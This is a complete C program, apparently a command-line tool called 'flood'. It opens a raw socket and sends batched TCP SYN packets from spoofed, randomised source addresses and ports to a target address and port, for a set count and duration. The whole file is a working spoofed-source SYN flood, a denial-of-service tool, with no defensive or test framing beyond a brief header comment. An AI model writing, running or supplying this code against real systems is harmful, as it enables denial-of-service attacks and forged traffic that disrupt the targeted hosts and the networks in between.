/* First SYNs from random places, as fast as the machine makes them.
 *
 * flood FROM BITS TO PORT COUNT SECONDS: source addresses are FROM with so many random low bits,
 * source ports are random; each SYN is another tuple with all likelihood. Sends COUNT of them, and
 * goes on until SECONDS are over. Says how many it sent, and in how many seconds.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

struct syn {
    struct iphdr ip;
    struct tcphdr tcp;
};

static uint64_t state = 0x9E3779B97F4A7C15u;

static uint64_t chance(void) {
    state ^= state << 13;
    state ^= state >> 7;
    return state ^= state << 17;
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Of the pseudo-header and the segment, which has no data and a checksum field of 0. */
static uint16_t sum(const struct syn *packet) {
    uint16_t words[sizeof packet->tcp / 2];
    uint32_t total = htons(IPPROTO_TCP) + htons(sizeof packet->tcp);
    total += (packet->ip.saddr & 0xFFFF) + (packet->ip.saddr >> 16);
    total += (packet->ip.daddr & 0xFFFF) + (packet->ip.daddr >> 16);
    memcpy(words, &packet->tcp, sizeof words);
    for (unsigned at = 0; at < sizeof words / 2; at++)
        total += words[at];
    total = (total & 0xFFFF) + (total >> 16);
    return (uint16_t)~((total & 0xFFFF) + (total >> 16));
}

int main(int count, char **words) {
    static struct syn packets[BATCH];
    static struct mmsghdr messages[BATCH];
    static struct iovec parts[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct in_addr from;
    uint32_t low;
    long wanted, sent = 0;
    double begun, least;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (count != 7 || inet_aton(words[1], &from) != 1 || inet_aton(words[3], &to.sin_addr) != 1)
        return 2;
    if (raw < 0) {
        perror("raw socket");
        return 1;
    }
    low = (uint32_t)((1ull << atoi(words[2])) - 1);
    wanted = atol(words[5]);
    least = atof(words[6]);
    for (int at = 0; at < BATCH; at++) {
        struct syn *packet = &packets[at];
        packet->ip.version = 4;
        packet->ip.ihl = 5;
        packet->ip.ttl = 64;
        packet->ip.protocol = IPPROTO_TCP;
        packet->ip.tot_len = htons(sizeof *packet);
        packet->ip.daddr = to.sin_addr.s_addr;
        packet->tcp.dest = htons((uint16_t)atoi(words[4]));
        packet->tcp.doff = 5;
        packet->tcp.syn = 1;
        packet->tcp.window = htons(64000);
        parts[at] = (struct iovec){packet, sizeof *packet};
        messages[at].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[at], .msg_iovlen = 1};
    }
    begun = now();
    while (sent < wanted || now() - begun < least) {
        int took;
        for (int at = 0; at < BATCH; at++) {
            const uint64_t random = chance();
            packets[at].ip.saddr = htonl((ntohl(from.s_addr) & ~low) | ((uint32_t)random & low));
            packets[at].tcp.source = htons((uint16_t)(1024 + (random >> 32) % 64512));
            packets[at].tcp.seq = (uint32_t)(random >> 20);
            packets[at].tcp.check = 0;
            packets[at].tcp.check = sum(&packets[at]);
        }
        took = sendmmsg(raw, messages, BATCH, 0);
        if (took < 0) {
            if (errno == EINTR || errno == ENOBUFS)
                continue;
            perror("send");
            return 1;
        }
        sent += took;
    }
    printf("%ld %.3f\n", sent, now() - begun);
    return 0;
}
